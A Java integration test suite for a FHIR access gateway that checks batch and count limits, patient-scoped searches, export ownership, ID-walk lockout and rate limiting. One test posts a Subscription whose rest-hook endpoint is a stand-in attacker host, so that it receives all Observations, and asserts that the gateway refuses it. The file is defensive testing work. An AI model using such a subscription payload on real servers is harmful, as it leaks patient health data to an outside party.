package org.fhirwall.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Bulk-query controls at the door, through fhirwall to a real HAPI FHIR server (the demo's EPR in
 * {@link BulkControlsIT}, HAPI's JPA server in {@link BulkControlsJpaIT}): mass queries are refused
 * or capped before the EPR sees them, and a principal's request rate is bounded. The role's numbers
 * are stated here as {@code it-policies/strict.yaml} sets them.
 */
@ExtendWith(LeakWatch.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class BulkControlsCases {
  static final ObjectMapper JSON = new ObjectMapper();
  /** it-strict: search.max-count 50, batch.max-entries 100, rate 5/s with a burst of 10. */
  static final int MAX_COUNT = 50;
  static final int BURST = 10;
  static final int PER_SECOND = 5;
  ItEnvironment it;
  List<String> ids;

  void use(ItEnvironment env) {
    it = env;
    ids = env.samplePatientIds(40, 3);
  }

  @AfterAll
  void stop() {
    if (it != null) {
      it.close();
    }
  }

  String strict() {
    return it.token("strict-" + UUID.randomUUID(), "strict");
  }

  HttpRequest.Builder post(String path, String contentType, String body) {
    return HttpRequest.newBuilder(it.uri(path)).header("Content-Type", contentType).POST(HttpRequest.BodyPublishers.ofString(body));
  }

  static String bundle(String type, List<String> urls) {
    StringBuilder sb = new StringBuilder("{\"resourceType\":\"Bundle\",\"type\":\"" + type + "\",\"entry\":[");
    for (int i = 0; i < urls.size(); i++) {
      sb.append(i == 0 ? "" : ",").append("{\"request\":{\"method\":\"GET\",\"url\":\"").append(urls.get(i)).append("\"}}");
    }
    return sb.append("]}").toString();
  }

  static String issueCode(HttpResponse<String> r) throws Exception {
    return JSON.readTree(r.body()).path("issue").path(0).path("code").asText();
  }

  /**
   * A client-credentials token of a service account with the bulk-export role, {@code subject} its
   * own (an account is issuer and subject; the demo's deployment knows one such client).
   */
  String serviceAccount(String subject) {
    return it.issuer().mint(org.fhirwall.demo.DemoIssuer.Claims.builder(subject, "fhirwall", "research-export")
        .username("service-account-research-export").roles(Set.of("bulk-export")).sid(null).authTime(null).amr(List.of())
        .build());
  }

  /** Whether the EPR heard the request fhirwall answered with {@code r}; empty when the EPR keeps no log (the demo's). */
  Optional<Boolean> eprHeard(HttpResponse<String> r) {
    return Optional.empty();
  }

  /**
   * The Bulk Data spec's cancel (DELETE of the status URL) is the job owner's alone: another account of
   * the same role is told what a foreign poll is told and the job runs on; the owner's cancel is the
   * EPR's (202), whose later polls say the job is gone.
   */
  @Test
  void anExportIsCancelledByItsOwnerAloneAndIsGoneAfterwards() throws Exception {
    String owner = serviceAccount("research-export-" + UUID.randomUUID());
    String other = serviceAccount("research-export-" + UUID.randomUUID());
    HttpResponse<String> kickOff = it.send(HttpRequest.newBuilder(it.uri("$export?_type=Patient"))
        .header("Prefer", "respond-async").GET(), owner);
    assertThat(kickOff.statusCode()).as(kickOff.body()).isEqualTo(202);
    String status = kickOff.headers().firstValue("Content-Location").orElseThrow();

    HttpResponse<String> foreign = it.send(HttpRequest.newBuilder(it.uri(status)).DELETE(), other);
    assertThat(foreign.statusCode()).as(foreign.body()).isEqualTo(403);
    assertThat(issueCode(foreign)).isEqualTo("forbidden");
    assertThat(foreign.body()).contains("not yours");
    assertThat(eprHeard(foreign)).as("the EPR never hears of it").isNotEqualTo(Optional.of(true));
    HttpResponse<String> runsOn = it.get(status, owner);
    assertThat(runsOn.statusCode()).as("the owner's job runs on: " + runsOn.body()).isIn(200, 202);

    HttpResponse<String> cancel = it.send(HttpRequest.newBuilder(it.uri(status)).DELETE(), owner);
    assertThat(cancel.statusCode()).as(cancel.body()).isEqualTo(202);
    assertThat(eprHeard(cancel)).isNotEqualTo(Optional.of(false));
    HttpResponse<String> gone = it.get(status, owner);
    assertThat(gone.statusCode()).as("the EPR says the job is gone: " + gone.body()).isEqualTo(404);
    assertThat(gone.body()).contains("OperationOutcome");
    HttpResponse<String> byOther = it.get(status, other);
    assertThat(byOther.statusCode()).as("to anyone else it is still not theirs").isEqualTo(403);
    assertThat(eprHeard(byOther)).isNotEqualTo(Optional.of(true));
  }

  @Test
  void aBatchOf500ReadsIsRefusedWhole() throws Exception {
    List<String> reads = new ArrayList<>();
    for (int i = 0; i < 500; i++) {
      reads.add("Patient/" + ids.get(i % ids.size()));
    }
    HttpResponse<String> r = it.send(post("", "application/fhir+json", bundle("batch", reads)), strict());
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(r.body()).contains("OperationOutcome").contains("100");
  }

  @Test
  void aTransactionHidingABareSearchIsRefusedWithTheEntryNamed() throws Exception {
    HttpResponse<String> r = it.send(post("", "application/fhir+json",
        bundle("transaction", List.of("Patient/" + ids.get(0), "Patient?_count=50"))), strict());
    assertThat(r.statusCode()).isEqualTo(403);
    assertThat(r.body()).contains("entry 1");
  }

  @Test
  void aHugeCountIsLoweredNotRefused() throws Exception {
    HttpResponse<String> r = it.get("Patient?family=Martin,Bernard,Thomas,Petit,Robert,Richard,Durand&_count=100000", strict());
    assertThat(r.statusCode()).isEqualTo(200);
    JsonNode b = JSON.readTree(r.body());
    assertThat(b.path("entry").size()).isBetween(1, MAX_COUNT);
    boolean more = false;
    for (JsonNode l : b.path("link")) {
      more |= "next".equals(l.path("relation").asText());
    }
    if (more) {
      assertThat(b.path("entry").size()).as("a full page when there is a next one").isEqualTo(MAX_COUNT);
    }
  }

  @Test
  void aBareSearchIsRefusedOrCappedAsThePolicySays() throws Exception {
    HttpResponse<String> refused = it.get("Patient", strict());
    assertThat(refused.statusCode()).isEqualTo(403);
    HttpResponse<String> capped = it.get("Patient", it.token("capped-" + UUID.randomUUID(), "capped"));
    assertThat(capped.statusCode()).isEqualTo(200);
    assertThat(JSON.readTree(capped.body()).path("entry").size()).isEqualTo(MAX_COUNT);
  }

  @Test
  void aClinicalSearchWithoutAPatientIsRefused() throws Exception {
    assertThat(it.get("Observation?code=8867-4", strict()).statusCode()).isEqualTo(403);
    assertThat(it.get("Observation?subject=Patient/" + ids.get(0), strict()).statusCode()).isEqualTo(200);
    assertThat(it.get("Patient?_id=" + String.join(",", ids.subList(0, 11)), strict()).statusCode()).isEqualTo(403);
    assertThat(it.get("Observation?subject.name=smith", strict()).statusCode()).isEqualTo(403);
    assertThat(it.get("Patient?_has:Observation:subject:code=8867-4", strict()).statusCode()).isEqualTo(403);
  }

  @Test
  void theSameForbiddenRequestGetsTheSameRefusalInEveryEncoding() throws Exception {
    String token = strict();
    String forbidden = "Observation?code=8867-4";
    List<HttpResponse<String>> answers = List.of(
        it.get(forbidden, token),
        it.send(post("Observation/_search", "application/x-www-form-urlencoded", "code=8867-4"), token),
        it.send(post("", "application/fhir+json", bundle("batch", List.of(forbidden))), token),
        it.send(post("", "application/fhir+json", bundle("transaction", List.of(forbidden))), token),
        it.get(forbidden + "&_format=xml", token));
    for (HttpResponse<String> r : answers) {
      assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
      assertThat(r.body()).contains("OperationOutcome").contains("forbidden");
    }
  }

  @Test
  void anInteractiveUserCannotOpenAnOutOfBandChannel() throws Exception {
    String token = strict();
    assertThat(it.send(HttpRequest.newBuilder(it.uri("$export")).header("Prefer", "respond-async").GET(), token).statusCode())
        .isEqualTo(403);
    assertThat(it.send(HttpRequest.newBuilder(it.uri("Patient/$export")).header("Prefer", "respond-async").GET(), token)
        .statusCode()).isEqualTo(403);
    String subscription = "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"criteria\":\"Observation?\","
        + "\"channel\":{\"type\":\"rest-hook\",\"endpoint\":\"https://attacker.example/hook\"}}";
    assertThat(it.send(post("Subscription", "application/fhir+json", subscription), token).statusCode()).isEqualTo(403);
    String tx = "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"resource\":" + subscription
        + ",\"request\":{\"method\":\"POST\",\"url\":\"Subscription\"}}]}";
    assertThat(it.send(post("", "application/fhir+json", tx), token).statusCode()).isEqualTo(403);
  }

  @Test
  void anIdWalkOverMissingRecordsLocksTheAccount() throws Exception {
    String token = it.token("walker-" + UUID.randomUUID(), "capped");
    int notFound = 0;
    for (int i = 0; i < 21; i++) {
      HttpResponse<String> r = it.get("Patient/nobody-" + i, token);
      assertThat(r.statusCode()).isEqualTo(404);
      notFound++;
    }
    assertThat(notFound).isEqualTo(21);
    HttpResponse<String> after = it.get("Patient/" + ids.get(0), token);
    assertThat(after.statusCode()).as(after.body()).isEqualTo(429);
    assertThat(after.body()).contains("locked");
  }

  /**
   * fhirwall's rate decision is counted on a clock that stands still, so the machine's speed changes nothing:
   * of 60 parallel requests and the sequential ones after them, exactly the burst gets through until the clock
   * moves; a second later exactly the second's refill does. Never a 5xx.
   */
  @Test
  void parallelRequestsAboveTheRateGet429NeverA5xx() throws Exception {
    TestClock clock = new TestClock(java.time.Instant.now());
    try (ItEnvironment frozen = it.anotherFhirwall(clock, "")) {
      String token = frozen.token("strict-" + UUID.randomUUID(), "strict");
      String path = "Patient/" + ids.get(1);
      ExecutorService pool = Executors.newFixedThreadPool(8);
      int ok = 0;
      try {
        List<Future<HttpResponse<String>>> answers = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
          answers.add(pool.submit(() -> frozen.get(path, token)));
        }
        for (Future<HttpResponse<String>> f : answers) {
          HttpResponse<String> r = f.get();
          assertThat(r.statusCode()).as(r.body()).isIn(200, 429);
          if (r.statusCode() == 200) {
            ok++;
          } else {
            assertThat(r.headers().firstValue("Retry-After")).isPresent();
          }
        }
      } finally {
        pool.shutdownNow();
      }
      assertThat(ok).as("parallel answers within the burst").isBetween(1, BURST);
      // some parallel ones may have been refused for concurrency (4 at once): the burst's rest is still there
      int last;
      while ((last = frozen.get(path, token).statusCode()) == 200) {
        ok++;
        assertThat(ok).as("requests admitted while the clock stands").isLessThanOrEqualTo(BURST);
      }
      assertThat(last).isEqualTo(429);
      assertThat(ok).as("the burst, and not one more, while the clock stands").isEqualTo(BURST);

      clock.advance(java.time.Duration.ofSeconds(1));
      int refilled = 0;
      while (frozen.get(path, token).statusCode() == 200) {
        refilled++;
        assertThat(refilled).isLessThanOrEqualTo(PER_SECOND);
      }
      assertThat(refilled).as("one second's refill").isEqualTo(PER_SECOND);
    }
  }
}
